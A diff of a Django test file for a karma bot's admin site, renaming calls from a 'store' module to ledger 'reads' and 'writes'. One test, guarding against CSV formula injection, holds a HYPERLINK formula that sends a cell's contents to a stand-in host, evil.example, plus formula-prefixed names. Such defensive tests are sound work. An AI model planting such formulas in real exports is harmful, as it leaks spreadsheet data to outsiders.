@@ -7,7 +7,7 @@ import json
 import pytest
 from django.urls import reverse
 
-from karma import store
+from karma.ledger import reads, writes
 from karma.models import GuildSettings, Karma, LedgerEntry, SettingChange
 from testkit.messages import chat
 
@@ -16,8 +16,8 @@ pytestmark = pytest.mark.django_db
 
 @pytest.fixture
 def karma_rows():
-    store.apply_changes(chat("", guild_id=1), [("popple", 3), ("coffee", -2), ("tea", 1)])
-    store.apply_changes(chat("", guild_id=2), [("popple", 7)])
+    writes.apply_changes(chat("", guild_id=1), [("popple", 3), ("coffee", -2), ("tea", 1)])
+    writes.apply_changes(chat("", guild_id=2), [("popple", 7)])
 
 
 def test_admin_requires_login(client):
@@ -104,7 +104,7 @@ def test_server_settings_are_editable_and_each_change_is_recorded(admin_client, 
     form = {"guild_id": "3", "announce": "", "cooldown": "60", "budget": "0", "max_change": "0", "ignored": '["c"]'}
     response = admin_client.post(reverse("admin:karma_guildsettings_change", args=[3]), form)
     assert response.status_code == 302
-    assert store.announce_enabled(3) is False
+    assert reads.announce_enabled(3) is False
     changes = SettingChange.objects.order_by("setting").values_list("setting", "old", "new", "changed_by", "admin_user")
     assert list(changes) == [
         ("announce", "on", "off", "admin admin", admin_user.pk),
@@ -140,7 +140,7 @@ def test_ignored_names_must_be_names_and_a_server_stays_its_own(admin_client):
 
 def test_servers_are_shown_and_filtered_by_name(admin_client, karma_rows):
     GuildSettings.objects.create(guild_id=1, name="Café crew")
-    store.apply_changes(chat("", guild_id=1), [("popple", 1)])
+    writes.apply_changes(chat("", guild_id=1), [("popple", 1)])
     for model in ("karma", "ledgerentry"):
         url = reverse(f"admin:karma_{model}_changelist")
         page = admin_client.get(url).content.decode()
@@ -155,7 +155,7 @@ def test_servers_are_shown_and_filtered_by_name(admin_client, karma_rows):
 
 def test_revert_merge_and_export_from_the_admin(admin_client, admin_user, karma_rows):
     spam = chat("", guild_id=1, author_id=666)
-    store.apply_changes(spam, [("popple", 5), ("tea", 5)])
+    writes.apply_changes(spam, [("popple", 5), ("tea", 5)])
     ledger = reverse("admin:karma_ledgerentry_changelist")
     rows = LedgerEntry.objects.filter(author_id=666).values_list("pk", flat=True)
     response = admin_client.post(ledger, {"action": "revert", "_selected_action": list(rows)}, follow=True)
@@ -194,7 +194,7 @@ def test_revert_merge_and_export_from_the_admin(admin_client, admin_user, karma_
 
 
 def test_forgetting_authors_from_the_admin(admin_client, karma_rows):
-    store.apply_changes(chat("", guild_id=1, author_id=666), [("x", 1)])
+    writes.apply_changes(chat("", guild_id=1, author_id=666), [("x", 1)])
     row = LedgerEntry.objects.get(author_id=666)
     admin_client.post(
         reverse("admin:karma_ledgerentry_changelist"), {"action": "forget_authors", "_selected_action": [row.pk]}
@@ -220,8 +220,8 @@ def test_only_those_who_may_change_karma_may_revert_or_forget(client, django_use
 
 def test_csv_exports_cannot_hold_spreadsheet_formulas(admin_client):
     formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
-    store.apply_changes(chat("", guild_id=1, author_name="@SUM(A1:A9)"), [(formula, -2), ("+1", 1), ("-x", 1)])
-    store.apply_changes(chat("", guild_id=1, author_name="\tcmd"), [("plain", 1)])
+    writes.apply_changes(chat("", guild_id=1, author_name="@SUM(A1:A9)"), [(formula, -2), ("+1", 1), ("-x", 1)])
+    writes.apply_changes(chat("", guild_id=1, author_name="\tcmd"), [("plain", 1)])
     GuildSettings.objects.create(guild_id=1)
     servers = reverse("admin:karma_guildsettings_changelist")
 
@@ -240,7 +240,7 @@ def test_csv_exports_cannot_hold_spreadsheet_formulas(admin_client):
 def test_exports_need_the_view_permissions_of_what_they_export(client, django_user_model, karma_rows):
     from django.contrib.auth.models import Permission
 
-    store.apply_changes(chat("", guild_id=1, author_id=666, author_name="private-person"), [("x", 1)])
+    writes.apply_changes(chat("", guild_id=1, author_id=666, author_name="private-person"), [("x", 1)])
     GuildSettings.objects.create(guild_id=1)
     staff = django_user_model.objects.create_user("settings-viewer", password="x", is_staff=True)
     staff.user_permissions.add(Permission.objects.get(codename="view_guildsettings"))
@@ -268,7 +268,7 @@ def test_exports_need_the_view_permissions_of_what_they_export(client, django_us
 def test_a_moderator_redacts_a_reason_from_the_admin(admin_client, client, django_user_model, karma_rows):
     from django.contrib.auth.models import Permission
 
-    store.apply_changes(chat("", guild_id=1), [("tea", 1)], {"tea": "my phone number is 555-0100"})
+    writes.apply_changes(chat("", guild_id=1), [("tea", 1)], {"tea": "my phone number is 555-0100"})
     row = LedgerEntry.objects.get(reason__startswith="my phone")
     ledger = reverse("admin:karma_ledgerentry_changelist")
     viewer = django_user_model.objects.create_user("viewer", password="x", is_staff=True)
